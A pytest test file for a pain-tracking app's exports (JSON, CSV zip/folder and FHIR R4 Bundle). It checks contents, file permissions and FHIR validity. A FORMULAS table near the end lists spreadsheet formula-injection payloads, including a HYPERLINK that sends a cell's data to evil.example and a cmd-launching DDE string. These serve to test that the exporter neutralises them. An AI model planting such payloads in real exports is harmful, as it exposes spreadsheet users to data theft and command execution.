"""The export files: CSV tables, the JSON document and the FHIR R4 Bundle."""

from __future__ import annotations

import copy
import csv
import io
import json
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fhir.resources.R4B.bundle import Bundle
from hypothesis import given
from hypothesis import strategies as st

from tests.sample_records import fill_profile
from unbrace.core.errors import UnbraceError
from unbrace.settings import Settings
from unbrace.store import profile_repo
from unbrace.store.db import open_store
from unbrace.transfer.document import parse_document
from unbrace.transfer.exchange import export_profile
from unbrace.transfer.exports import TABLES, neutralise, write_export
from unbrace.transfer.fhir import OBSERVATION_STATUSES, fhir_problems

LOINC_PAIN = {"system": "http://loinc.org", "code": "72514-3"}
SCORE = {"unit": "{score}", "system": "http://unitsofmeasure.org", "code": "{score}"}
SURVEY = {
    "system": "http://terminology.hl7.org/CodeSystem/observation-category",
    "code": "survey",
}


@pytest.fixture
def document(isolated_home: Path) -> Iterator[dict[str, Any]]:
    store = open_store(
        Settings(home=isolated_home, database_url=f"sqlite:///{isolated_home / 'unbrace.db'}")
    )
    try:
        fill_profile(store)
        with store.transaction() as db:
            yield export_profile(db, profile=profile_repo.resolve_profile(db, name="Maria"))
    finally:
        store.close()


def _private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_is_the_document_pretty_printed(document: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "maria.json"
    assert write_export(document, fmt="json", out=out) == [out]
    text = out.read_text(encoding="utf-8")
    assert json.loads(text) == document
    assert text.startswith('{\n  "format": "unbrace-export",') and "ünïcode ✓" in text
    assert _private(out)
    assert parse_document(json.loads(text)).profile.name == "Maria"


def test_csv_zip_has_one_readable_table_per_kind(document: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "maria.zip"
    write_export(document, fmt="csv", out=out)
    assert _private(out)
    with zipfile.ZipFile(out) as archive:
        assert sorted(archive.namelist()) == sorted(TABLES)
        tables = {name: _rows(archive.read(name).decode("utf-8")) for name in TABLES}
    for name, rows in tables.items():
        assert all(list(row) == list(TABLES[name]) for row in rows), name
    assert len(tables["profile.csv"]) == 1
    assert len(tables["checkins.csv"]) == len(document["checkins"])
    assert len(tables["sessions.csv"]) == len(document["sessions"])
    assert len(tables["session_steps.csv"]) == sum(len(s["steps"]) for s in document["sessions"])
    assert len(tables["safety_screens.csv"]) == len(document["safety_screens"])
    assert len(tables["scripts.csv"]) == 2
    assert len(tables["feared_movements.csv"]) == 2
    first, second = tables["checkins.csv"][:2]
    assert (first["date"], first["pain"], first["worst"], first["sleep"]) == (
        "2026-10-01",
        "0",
        "8",
        "",
    )
    assert first["habits"] == "movement-breaks;walking" and first["flare"] == "false"
    assert second["note"] == document["checkins"][1]["note"]  # quotes, commas and a newline
    assert float(second["peg"]) == pytest.approx((3 + 5 + 7) / 3, abs=0.01)
    steps = [row for row in tables["session_steps.csv"] if row["session"] == "2"]
    assert len(steps) == len(document["sessions"][1]["steps"])
    assert tables["feared_movements.csv"][0] == {
        "rank": "1",
        "text": "lifting the laundry basket",
        "easier": "",
    }
    assert tables["safety_screens.csv"][1]["positive"] == "fever"


def test_csv_into_a_folder(document: dict[str, Any], tmp_path: Path) -> None:
    folder = tmp_path / "maria-csv"
    written = write_export(document, fmt="csv", out=folder)
    assert sorted(path.name for path in written) == sorted(TABLES)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert all(_private(path) for path in written)
    rows = _rows((folder / "sessions.csv").read_text(encoding="utf-8"))
    assert [row["status"] for row in rows] == ["completed", "stopped", "in_progress"]
    assert rows[2]["ended_at"] == "" and rows[0]["vivid_body"] == "2"


def test_csv_refuses_a_plain_file_name(document: dict[str, Any], tmp_path: Path) -> None:
    taken = tmp_path / "maria.csv"
    taken.write_text("mine")
    with pytest.raises(UnbraceError, match=r"give a folder, or a file name ending in \.zip"):
        write_export(document, fmt="csv", out=taken)
    assert taken.read_text() == "mine"


def test_unknown_format_and_missing_folder_are_refused(
    document: dict[str, Any], tmp_path: Path
) -> None:
    with pytest.raises(UnbraceError, match="csv, json or fhir"):
        write_export(document, fmt="xml", out=tmp_path / "x.xml")
    with pytest.raises(UnbraceError, match="There is no folder"):
        write_export(document, fmt="json", out=tmp_path / "nowhere" / "x.json")
    with pytest.raises(UnbraceError, match="is a folder"):
        write_export(document, fmt="fhir", out=tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home"]


def _fhir(document: dict[str, Any], tmp_path: Path) -> dict[str, Any]:
    out = tmp_path / "maria.fhir.json"
    write_export(document, fmt="fhir", out=out)
    assert _private(out)
    data: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return data


def _coding(concept: dict[str, Any]) -> list[dict[str, str]]:
    return [{"system": c["system"], "code": c["code"]} for c in concept.get("coding", [])]


def test_fhir_bundle_parses_back_and_has_the_expected_resources(
    document: dict[str, Any], tmp_path: Path
) -> None:
    data = _fhir(document, tmp_path)
    bundle = Bundle.model_validate(data)
    assert bundle.type == "collection"
    assert fhir_problems(data) == []
    resources = [entry["resource"] for entry in data["entry"]]
    patient, *observations = resources
    assert patient == {"resourceType": "Patient", "name": [{"text": "Maria"}]}
    assert len(observations) == 2 * len(document["checkins"]) + len(document["sessions"])
    patient_url = data["entry"][0]["fullUrl"]
    for observation in observations:
        assert observation["resourceType"] == "Observation"
        assert observation["status"] in OBSERVATION_STATUSES
        assert [_coding(c) for c in observation["category"]] == [[SURVEY]]
        assert observation["subject"] == {"reference": patient_url}
    urls = [entry["fullUrl"] for entry in data["entry"]]
    assert len(set(urls)) == len(urls) and all(url.startswith("urn:uuid:") for url in urls)


def test_fhir_checkins_give_pain_severity_and_peg(document: dict[str, Any], tmp_path: Path) -> None:
    observations = [entry["resource"] for entry in _fhir(document, tmp_path)["entry"][1:]]
    pain = [o for o in observations if _coding(o["code"]) == [LOINC_PAIN]]
    peg = [
        o for o in observations if o["code"] == {"text": "PEG-3 pain intensity and interference"}
    ]
    assert len(pain) == len(peg) == len(document["checkins"])
    second = document["checkins"][1]
    assert pain[1]["effectiveDateTime"] == second["date"] == peg[1]["effectiveDateTime"]
    assert pain[1]["status"] == peg[1]["status"] == "final"
    assert pain[1]["valueQuantity"] == {"value": second["pain"], **SCORE}
    assert peg[1]["valueQuantity"] == {"value": 5.0, **SCORE}  # (3 + 5 + 7) / 3
    assert [(c["code"]["text"], c["valueQuantity"]["value"]) for c in peg[1]["component"]] == [
        ("average pain", 3),
        ("interference with enjoyment of life", 5),
        ("interference with general activity", 7),
    ]
    assert all(c["valueQuantity"]["unit"] == "{score}" for c in peg[1]["component"])


def test_fhir_sessions_have_a_period_and_components(
    document: dict[str, Any], tmp_path: Path
) -> None:
    observations = [entry["resource"] for entry in _fhir(document, tmp_path)["entry"][1:]]
    sessions = [o for o in observations if o["code"] == {"text": "Motor imagery practice session"}]
    assert [s["status"] for s in sessions] == ["final", "final", "preliminary"]
    first = sessions[0]
    assert first["effectivePeriod"]["start"].startswith("2026-10-01T09:30:12")
    assert "end" in first["effectivePeriod"] and "end" not in sessions[2]["effectivePeriod"]
    parts = {c["code"]["text"]: c for c in first["component"]}
    assert parts["Seconds practised"]["valueQuantity"] == {
        "value": 60.0,
        "unit": "s",
        "system": "http://unitsofmeasure.org",
        "code": "s",
    }
    for label, value in (("Pain before practice", 6), ("Pain after practice", 4)):
        assert _coding(parts[label]["code"]) == [LOINC_PAIN]
        assert parts[label]["valueQuantity"] == {"value": value, **SCORE}
    assert parts["Vividness of seeing the movement (1-5)"]["valueQuantity"]["value"] == 4
    assert parts["Vividness of feeling the movement (1-5)"]["valueQuantity"]["value"] == 2
    assert parts["Practice"]["valueString"] == "Posture reset"
    # Ratings never given are left out rather than sent empty.
    second = {c["code"]["text"] for c in sessions[1]["component"]}
    assert "Pain after practice" not in second and "Pain before practice" in second


def test_fhir_problems_catches_what_the_models_let_through(
    document: dict[str, Any], tmp_path: Path
) -> None:
    data = _fhir(document, tmp_path)
    broken = copy.deepcopy(data)
    broken["type"] = "pile"
    broken["entry"][1]["resource"]["status"] = "done"
    broken["entry"][1]["resource"]["code"]["coding"][0].pop("system")
    broken["entry"][2]["resource"]["valueQuantity"].pop("code")
    Bundle.model_validate(broken)  # the R4B models accept all of this
    problems = fhir_problems(broken)
    assert len(problems) == 4, problems


FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1": "'+1+1",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-3": "-3",  # a number, not a formula: left as it is
    "calm = kind": "calm = kind",
}


@pytest.mark.parametrize(("text", "written"), FORMULAS.items())
def test_csv_cells_never_run_as_formulas(
    document: dict[str, Any], tmp_path: Path, text: str, written: str
) -> None:
    changed = copy.deepcopy(document)
    changed["profile"]["name"] = text.strip() or "x"
    changed["personal"]["scene"] = text.strip()
    changed["checkins"][0]["note"] = text
    changed["sessions"][0]["note"] = text
    out = tmp_path / "maria.zip"
    write_export(changed, fmt="csv", out=out)
    with zipfile.ZipFile(out) as archive:
        tables = {name: _rows(archive.read(name).decode("utf-8")) for name in TABLES}
    assert tables["checkins.csv"][0]["note"] == written
    assert tables["sessions.csv"][0]["note"] == written
    assert tables["profile.csv"][0]["scene"] == neutralise(" ".join(text.split()))
    # Numbers stay numbers; the JSON export keeps the words exactly.
    assert tables["checkins.csv"][0]["pain"] == str(changed["checkins"][0]["pain"])
    json_out = tmp_path / "maria.json"
    write_export(changed, fmt="json", out=json_out)
    assert json.loads(json_out.read_text(encoding="utf-8"))["checkins"][0]["note"] == text


@given(text=st.text())
def test_no_csv_text_cell_starts_like_a_formula(text: str) -> None:
    from unbrace.transfer.exports import FORMULA_STARTS, cell

    shown = cell(text)
    assert shown == text or shown == "'" + text
    if shown.startswith(FORMULA_STARTS):
        float(shown)  # only a plain number may start with + or -


@given(
    number=st.integers(min_value=-(10**6), max_value=10**6)
    | st.floats(allow_nan=False, allow_infinity=False)
)
def test_csv_numbers_stay_numbers(number: float) -> None:
    from unbrace.transfer.exports import cell

    assert float(cell(number)) == number
